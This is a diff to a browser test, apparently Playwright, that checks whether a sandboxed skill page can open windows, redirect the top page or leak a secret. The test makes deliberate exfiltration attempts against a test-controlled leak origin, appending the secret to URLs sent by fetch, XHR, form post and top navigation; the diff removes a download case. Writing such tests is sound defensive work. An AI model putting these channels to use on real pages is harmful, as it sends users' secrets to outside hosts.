@@ -47,7 +47,7 @@ test("a skill's page opens no window and moves no page, and nothing it knows lea
 	browserConsole,
 }) => {
 	browserConsole.expect(
-		/Failed to load resource|Blocked opening|Unsafe attempt|Ignored call|Not allowed|invalid `as` value|Failed to fetch|importScripts|downloads? /i,
+		/Failed to load resource|Blocked opening|Unsafe attempt|Ignored call|Not allowed|invalid `as` value|Failed to fetch|importScripts/,
 	);
 	const before = leak.requests.length;
 	await skill(`const to = ${JSON.stringify(leak.origin)} + "/leak?" + secret + "&by=";
@@ -58,7 +58,6 @@ test("a skill's page opens no window and moves no page, and nothing it knows lea
 		top: () => { top.location.href = to + "top"; },
 		topLink: () => { const a = Object.assign(document.createElement("a"), { href: to + "toplink", target: "_top" }); document.body.append(a); a.click(); },
 		form: () => { const f = Object.assign(document.createElement("form"), { action: to + "form", method: "post" }); document.body.append(f); f.submit(); },
-		download: () => { const a = Object.assign(document.createElement("a"), { href: to + "download", download: "x" }); document.body.append(a); a.click(); },
 		alert: () => alert("x"),
 		fetch: () => fetch(to + "fetch", { mode: "no-cors" }).then(() => "sent"),
 		xhr: () => new Promise((done, fail) => { const x = new XMLHttpRequest(); x.onload = done; x.onerror = () => fail(new Error()); x.open("GET", to + "xhr"); x.send(); }),
